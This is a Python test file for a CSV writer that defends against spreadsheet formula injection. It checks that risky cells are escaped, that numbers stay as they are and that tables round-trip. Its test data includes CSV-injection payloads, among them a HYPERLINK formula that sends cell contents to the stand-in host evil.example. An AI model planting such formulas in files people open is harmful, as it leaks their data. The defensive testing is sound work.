"""CSV that a spreadsheet shows and does not run: what is written, and that all of it comes back.

The list of what starts a formula is from [OWASP, page on CSV injection]. A design whose names are
such cells goes through the commands in cli/test_csv_cells.py.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from linkwright.text.csv_text import CsvError, csv_records, csv_rows, csv_text

LINK = '=HYPERLINK("http://evil.example/"&A1,"Click")'
HOSTILE = st.text(alphabet="=+-@\t\r\n' ＝\"',;1.5eA", max_size=8)
TABLES = st.lists(
    st.lists(HOSTILE | st.text(max_size=4), min_size=3, max_size=3), min_size=1, max_size=5
)


def cell_of(text: str) -> str:
    """Return how a cell is written, as another program reads it."""
    ((written, _),) = csv.reader(io.StringIO(csv_text([text, "end"], []), newline=""))
    return written


@pytest.mark.parametrize(
    "text",
    [
        LINK,
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\nx",
        " =1+1",
        "＝1",
        "-",
        "-1_000",
        "+1,5",
    ],
)
def test_what_a_spreadsheet_would_run_is_marked_as_text(text: str) -> None:
    assert cell_of(text) == "'" + text


@pytest.mark.parametrize("text", ["-1.5", "+7", "-.5", "-2e-06", "+1.", "-3E+5"])
def test_numbers_stay_as_they_are(text: str) -> None:
    assert cell_of(text) == text
    assert csv_text(["value"], [[float(text)]]) == f"value\n{float(text)}\n"


@pytest.mark.parametrize("text", ["n0", "", "'", "'quoted'", "a=b", "10.0.0.0/8", "x-1", "–", "#1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell_of(text) == text


def test_quotes_stand_only_where_they_are_needed() -> None:
    rows = [['a"b', "c,d"], ["e\rf", "g\nh"], [None, 1.5]]
    assert csv_text(["x", "y"], rows) == 'x,y\n"a""b","c,d"\n"e\rf","g\nh"\n,1.5\n'


@given(TABLES)
def test_every_table_comes_back(table: list[list[str]]) -> None:
    header, *rows = table
    assert list(csv_rows(csv_text(header, rows))) == table


@given(st.lists(HOSTILE, max_size=5))
def test_a_table_of_one_column_comes_back_with_its_empty_cells(cells: list[str]) -> None:
    text = csv_text(["name"], [[cell] for cell in cells])
    assert csv_records(text) == [{"name": cell} for cell in cells]


@given(TABLES)
def test_no_written_cell_starts_a_formula(table: list[list[str]]) -> None:
    header, *rows = table
    for row in csv.reader(io.StringIO(csv_text(header, rows), newline="")):
        for cell in row:
            assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell) or float(cell) is not None


@pytest.mark.parametrize("read", [lambda text: list(csv_rows(text)), csv_records])
@pytest.mark.parametrize("quote", ["", '"'])
def test_a_cell_without_an_end_is_an_error_with_its_line(
    read: Callable[[str], object], quote: str
) -> None:
    with pytest.raises(CsvError, match=r"^line 3 is not CSV: field larger"):
        read(f"node,via\nn0,n1\nn1,{quote}{'x' * 140_000}\n")


def test_a_file_of_a_users_own_is_read_as_it_is() -> None:
    text = "node,via\r\n=a,'b\r\n'c',-1\r\n"
    assert csv_records(text) == [{"node": "=a", "via": "'b"}, {"node": "'c'", "via": "-1"}]
